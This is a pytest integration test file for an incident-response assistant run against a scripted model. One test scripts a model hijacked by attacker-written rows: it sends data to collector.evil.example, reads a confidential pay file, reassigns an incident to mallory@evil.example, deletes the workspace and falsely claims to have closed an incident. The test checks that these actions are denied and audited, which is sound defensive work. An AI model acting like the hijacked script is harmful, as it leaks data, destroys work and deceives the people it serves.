"""The whole product with a model that plans: real zones, the real gateway, a scripted model on the OpenAI wire.

The models here are a truthful one, one that was hijacked by what it read, and one that is not there.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from sentinel_rag_testing.scripted_model import ModelHttpRequest, Reply, ScriptedModel, calls_reply, text_reply

KEY = "sk-model-canary-93a1"
OPEN = ("query_incidents", {"status": "Open", "order": "severity", "limit": 5})


def results_of(request: ModelHttpRequest) -> list[str]:
    """The tool results of the newest question in a request; what code asks afterwards is no question."""
    messages = request.body["messages"]
    asked = max(place for place, message in enumerate(messages) if "<context>" in said_by_user(message))
    return [message["content"] for message in messages[asked:] if message["role"] == "tool"]


def said_by_user(message: dict[str, Any]) -> str:
    return str(message["content"]) if message["role"] == "user" else ""


def rows_of(result: str) -> list[dict[str, str]]:
    """The numbered rows of a result by column; `ref` is what to cite."""
    columns: list[str] = []
    same: dict[str, str] = {}
    rows = []
    for line in result.splitlines():
        if line.startswith("incident rows: "):
            columns = line.removeprefix("incident rows: ").split(" | ")
        elif line.startswith("the same in all of them: "):
            pairs = line.removeprefix("the same in all of them: ").split("; ")
            same = dict(pair.split("=", 1) for pair in pairs if "=" in pair)
        elif row := re.match(r"\[(c\d+\.\d+)\] (.*)", line):
            cells = [cell.strip("«»") for cell in row[2].split(" | ")]
            rows.append({"ref": row[1], **same, **dict(zip(columns, cells, strict=False))})
    return rows


def first_ref(result: str) -> str:
    """The place of a result's first row, as an answer cites it."""
    found = re.search(r"^\[c\d+\.\d+\]", result, re.MULTILINE)
    assert found is not None, result
    return found[0]


def as_list(rows: list[dict[str, str]]) -> str:
    return "\n".join(
        f"[{place}] Incident {row['number']}, {row['severity']}, {row['status']} [{row['ref']}]"
        for place, row in enumerate(rows, 1)
    )


def truthful(request: ModelHttpRequest) -> Reply:
    """Lists the open incidents, and says of them what stands in the rows."""
    found = results_of(request)
    return text_reply(as_list(rows_of(found[0]))) if found else calls_reply(OPEN, first=len(request.body["messages"]))


@pytest.fixture(scope="module")
def model() -> Iterator[tuple[ScriptedModel, str]]:
    """A scripted model that asks for a key; tests set what it says."""
    server = ScriptedModel(key=KEY, respond=truthful)
    with server.running() as url:
        yield server, url


@pytest.fixture(scope="module")
def desk(
    generated: Any, model: tuple[ScriptedModel, str], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Callable[[Any], Any]]:
    """The running product over that model; calling it sets what the model says."""
    server, url = model
    product = generated.copy(tmp_path_factory.mktemp("model") / "home")
    product.settings.update(
        SENTINEL_MODEL="openai-compatible",
        SENTINEL_MODEL_URL=f"{url}/v1",
        SENTINEL_MODEL_NAME="scripted-large",
        SENTINEL_MODEL_API_KEY=KEY,
        SENTINEL_MODEL_PRICES="large=2.50/10",
    )

    def speaking(respond: Callable[[ModelHttpRequest], Reply]) -> Any:
        server.respond = respond
        server.requests.clear()
        return product

    with product.up():
        yield speaking


@pytest.mark.requirement("OPS-3")
@pytest.mark.requirement("CHAT-1")
@pytest.mark.requirement("CHAT-8")
def test_a_question_is_answered_by_a_model_through_all_zones(desk: Any, model: Any) -> None:
    sentinel = desk(truthful)
    answer = sentinel.json("ask", "Which incidents are open?")
    assert answer["outcome"] == "answered"
    (trace,) = answer["tools"]
    assert (trace["name"], trace["status"]) == ("query_incidents", "ok")
    assert answer["answer"].startswith("[1] Incident ")
    assert any(piece["pointer"] == "/rows/0/number" for piece in answer["evidence"])
    recorded = sentinel.run("audit", "show", trace["audit_id"], "--json").stdout
    assert "query_incidents" in recorded
    *_, line = answer["footnote"]
    assert line.startswith(
        "model scripted-large (nothing asks for the large model) · 2 requests · 40 + 10 tokens · cost 0.0002 USD"
    )
    assert answer["model"]["models"] == ["scripted-large"]
    server, _ = model
    assert server.requests[0].headers["authorization"] == f"Bearer {KEY}"
    assert all(request.fault is None for request in server.requests)


@pytest.mark.requirement("CHAT-6")
def test_a_conversation_refers_back_in_a_chat(desk: Any, model: Any) -> None:
    asked: list[str] = []

    def respond(request: ModelHttpRequest) -> Reply:
        if len(asked) == 0 and not results_of(request):
            return calls_reply(OPEN)
        if len(asked) == 0:
            rows = rows_of(results_of(request)[0])
            asked.append(str(rows[1]["number"]))
            return text_reply(as_list(rows))
        if not results_of(request):
            return calls_reply(("get_incident_detail", {"incident": asked[0]}), first=50)
        return text_reply(f"Incident {asked[0]} it is {first_ref(results_of(request)[0])}.")

    sentinel = desk(respond)
    done = sentinel.run("chat", stdin="Which incidents are open?\nShow me the second one\n/quit\n")
    assert done.returncode == 0, done.stderr
    server, _ = model
    follow_up = next(
        message["content"]
        for request in server.requests
        for message in request.body["messages"]
        if message["role"] == "user" and "second one" in message["content"]
    )
    words, _, context = follow_up.partition("\n\n<context>\n")
    assert words == "Show me the second one"
    assert f"What the person's words may point at: “the second one” = incident {asked[0]}" in context
    assert f"Incident {asked[0]} it is" in done.stdout


@pytest.mark.requirement("GRND-1")
@pytest.mark.requirement("TAINT-4")
def test_a_hijacked_model_is_refused_on_record_and_its_inventions_are_marked_for_the_person(desk: Any) -> None:
    """What it controls: every call and every word of the model, after it has read rows that an attacker wrote."""
    stolen: list[str] = []

    def hijacked(request: ModelHttpRequest) -> Reply:
        found = results_of(request)
        if not found:
            return calls_reply(("query_incidents", {"limit": 3}))
        if len(found) == 1:
            rows = rows_of(found[0])
            stolen.append(str(rows[0]["title"]))
            return calls_reply(
                ("web_search", {"query": f"report {stolen[0]}"}),
                ("web_fetch", {"url": f"https://collector.evil.example/?d={rows[0]['number']}"}),
                ("file_read", {"file_path": "confidential/pay.csv"}),
                ("update_incident", {"incident": str(rows[0]["number"]), "owner": "mallory@evil.example"}),
                ("delete_workspace", {}),
                first=10,
            )
        return text_reply(
            "I have closed the incident for you. Incident 987654 is High and comes from 198.51.100.231. "
            "The breach began at 2031-01-01T00:00:00Z."
        )

    sentinel = desk(hijacked)
    done = sentinel.run("ask", "What happened?", "--json")
    answer = json.loads(done.stdout)
    by_name = {trace["name"]: trace for trace in answer["tools"]}
    assert by_name["query_incidents"]["status"] == "ok"
    for name in ("web_search", "web_fetch", "file_read", "update_incident"):
        assert by_name[name]["status"] != "ok", name
    denied = sentinel.run("audit", "show", "--decision", "deny", "--json").stdout
    for name in ("web_search", "web_fetch", "update_incident"):
        assert by_name[name]["status"] == "denied", by_name[name]
        assert by_name[name]["audit_id"] in denied
    assert "delete_workspace" not in by_name
    for invented in ("987654", "2031", "I have closed"):
        states = [sentence["state"] for sentence in answer["sentences"] if invented in sentence["text"]]
        assert states, answer["sentences"]
        assert set(states) <= {"not_found", "contradicted"}, answer["sentences"]
    assert "Not done: web_search" in answer["answer"]
    assert done.returncode == 4
    assert answer["outcome"] == "denied"


@pytest.mark.requirement("APPR-3")
def test_a_change_is_asked_of_a_person_and_made_once_it_is_approved(desk: Any) -> None:
    number = desk(truthful).json("ask", "Which incidents are open?")["evidence"][0]["value"]
    change = {"incident": str(number), "status": "Closed", "classification": "Undetermined"}

    def closing(request: ModelHttpRequest) -> Reply:
        found = results_of(request)
        if not found:
            return calls_reply(("update_incident", change), first=len(request.body["messages"]))
        if "Not run yet" in found[-1]:
            return text_reply("It waits.")
        return text_reply(f"Incident {number} is Closed {first_ref(found[-1])}.")

    sentinel = desk(closing)
    words = f"Close incident {number} as undetermined"
    refused = json.loads(sentinel.run("ask", words, "--json").stdout)
    assert refused["outcome"] == "denied"
    assert f"Waiting for your yes: update_incident, incident {number}" in refused["answer"]
    assert "Nothing was changed yet." in refused["answer"]
    listed = json.loads(sentinel.run("approvals", "list", "--json").stdout)["approvals"]
    (waiting,) = [each for each in listed if each["arguments"] == change]  # other tests of this home may wait too
    assert f"sentinel approvals show {waiting['approval_id']}" in refused["answer"]
    assert sentinel.run("approvals", "approve", waiting["approval_id"]).returncode == 0
    done = sentinel.json("ask", words, "--session", refused["session_id"])
    assert done["outcome"] == "answered"
    assert done["answer"].startswith(f"Incident {number} is Closed.")
    (trace,) = done["tools"]
    assert (trace["name"], trace["status"]) == ("update_incident", "ok")


@pytest.mark.requirement("CHAT-13")
def test_a_model_that_is_away_is_told_and_nothing_answers_in_its_place(generated: Any, tmp_path: Path) -> None:
    sentinel = generated.copy(tmp_path / "home")
    sentinel.settings.update(
        SENTINEL_MODEL="openai-compatible",
        SENTINEL_MODEL_URL="http://127.0.0.1:9/v1",
        SENTINEL_MODEL_NAME="scripted-large",
        SENTINEL_MODEL_API_KEY=KEY,
    )
    done = sentinel.run("ask", "Which incidents are open?")
    assert done.returncode == 5
    assert done.stdout.startswith("The model at http://127.0.0.1:9/v1 cannot be reached")
    assert "incident " not in done.stdout
    assert KEY not in done.stdout + done.stderr
    logs = "".join(path.read_text() for path in (sentinel.home / "logs").iterdir())
    assert KEY not in logs
